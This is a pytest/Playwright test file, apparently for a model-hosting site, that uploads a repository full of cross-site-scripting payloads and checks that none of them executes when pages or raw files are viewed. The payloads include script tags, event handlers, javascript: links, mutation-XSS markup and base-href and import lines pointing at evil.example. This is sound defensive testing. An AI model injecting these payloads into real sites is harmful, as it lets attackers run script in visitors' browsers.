"""What members wrote is shown and never run: cards, file names, titles of commits, pictures, headers of weights."""

import base64
import json
import struct
import urllib.parse
import urllib.request

import pytest
from playwright.sync_api import Error

ALARM = "alert(document.domain)"

SCRIPTS = [
    f"<script>{ALARM}</script>",
    f"<img src=x onerror={ALARM}>",
    f"<svg onload={ALARM}>",
    f"<svg><script>{ALARM}</script></svg>",
    f'<a href="javascript:{ALARM}">here</a>',
    f"<a href=\" &#14; javascript:{ALARM}\">here</a>",
    f"<iframe srcdoc='<script>{ALARM}</script>'></iframe>",
    f"<details open ontoggle={ALARM}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={ALARM}&gt;\">",
    f"<form><input autofocus onfocus={ALARM}></form>",
    f"<base href='//evil.example/'><script src=x></script>",
    f"[here](javascript:{ALARM})",
    f"[here](data:text/html,<script>{ALARM}</script>)",
    f"![x](x\" onerror=\"{ALARM})",
    f"$\\href{{javascript:{ALARM}}}{{x}}$",
    f"```html\"><script>{ALARM}</script>\nx\n```",
    f"<style>@import 'http://evil.example/x';</style>",
    f"<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f"<object data='data:text/html,<script>{ALARM}</script>'></object>",
    f"<div style='background:url(http://evil.example/x)'>x</div>",
]

NAMES = [
    f"<img src=x onerror={ALARM}>.txt",
    f"\"onmouseover={ALARM} x=\".txt",
    f"';{ALARM};'.txt",
    "javascript:alert(1).txt",
]

SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ALARM}"><script>{ALARM}</script><rect width="9" height="9"/></svg>'


def safetensors(metadata: dict[str, str]) -> bytes:
    header = {"__metadata__": metadata, f"<img src=x onerror={ALARM}>": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + b"\0"


def call(hub, token: str, path: str, body: bytes, kind: str) -> None:
    request = urllib.request.Request(
        hub.url + path, body, {"Authorization": f"Bearer {token}", "Content-Type": kind}
    )
    urllib.request.urlopen(request, timeout=30).close()


@pytest.fixture(scope="session")
def trap(hub, member: str) -> str:
    """A repo in which everything that can be written is hostile."""
    call(hub, member, "/api/repos/create", b'{"name":"trap","type":"model"}', "application/json")
    # The picture is shown in the card, where nothing in it may run either.
    card = "---\nlicense: mit\ntags:\n- '<script>alert(1)</script>'\n---\n# Trap\n\n![drawing](picture.svg)\n\n" + "\n\n".join(SCRIPTS)
    files = {
        "README.md": card.encode(),
        "picture.svg": SVG.encode(),
        "page.html": f"<script>{ALARM}</script>".encode(),
        "table.csv": f"a,b\n<script>{ALARM}</script>,\"<img src=x onerror={ALARM}>\"\n".encode(),
        "rows.jsonl": json.dumps({"a": SCRIPTS[1]}).encode(),
        "w.safetensors": safetensors({"note": SCRIPTS[1]}),
        "notes.md": "\n\n".join(SCRIPTS).encode(),
        **{name: b"x" for name in NAMES},
    }
    lines = [{"key": "header", "value": {"summary": SCRIPTS[1], "description": "\n".join(SCRIPTS)}}]
    lines += [
        {"key": "file", "value": {"path": path, "encoding": "base64", "content": base64.b64encode(content).decode()}}
        for path, content in files.items()
    ]
    body = "\n".join(map(json.dumps, lines)).encode()
    call(hub, member, "/api/models/ada/trap/commit/main", body, "application/x-ndjson")
    return "/ada/trap"


SHOWN = ["", "/tree/main", "/commits/main", "/commit/main", "/refs", "/compare"]
FILES = ["README.md", "picture.svg", "page.html", "table.csv", "rows.jsonl", "w.safetensors", "notes.md", *NAMES]


@pytest.mark.parametrize("what", SHOWN + [f"/blob/main/{urllib.parse.quote(name)}" for name in FILES])
def test_nothing_runs_on_a_page(visit, trap: str, what: str):
    visitor = visit()
    page = visitor.go(trap + what)
    # Whatever waits for a hand gets one.
    page.evaluate("document.querySelectorAll('main a[href^=\"#\"], summary').forEach((e) => e.click())")
    page.mouse.move(300, 400)
    page.wait_for_load_state("networkidle")
    loaded = page.evaluate("document.querySelectorAll('main script:not([src]), main [onload], main [onerror]').length")
    assert loaded == 0
    assert page.evaluate("document.querySelectorAll('a[href^=\"javascript:\" i], base').length") == 0
    # A picture that is not there is no fault of the page.
    visitor.complaints[:] = [line for line in visitor.complaints if "404" not in line and "ERR_BLOCKED" not in line]


def test_a_drawing_is_shown_in_a_card(visit, trap: str):
    visitor = visit()
    page = visitor.go(trap)
    drawn = page.locator("article img[alt=drawing]")
    drawn.scroll_into_view_if_needed()
    page.wait_for_load_state("networkidle")
    assert drawn.evaluate("(img) => img.complete && img.naturalWidth") > 0
    visitor.complaints[:] = [line for line in visitor.complaints if "404" not in line]


@pytest.mark.parametrize("name", ["picture.svg", "page.html"])
def test_nothing_runs_in_a_raw_file(visit, trap: str, name: str):
    visitor = visit()
    # A browser shows it as text, or keeps it in a file; either way it is no document of its own kind.
    try:
        visitor.page.goto(f"{visitor.url}{trap}/resolve/main/{name}")
    except Error as error:
        assert "Download is starting" in str(error)
    else:
        assert visitor.page.evaluate("document.contentType") == "text/plain"
        assert visitor.page.evaluate("document.scripts.length") == 0
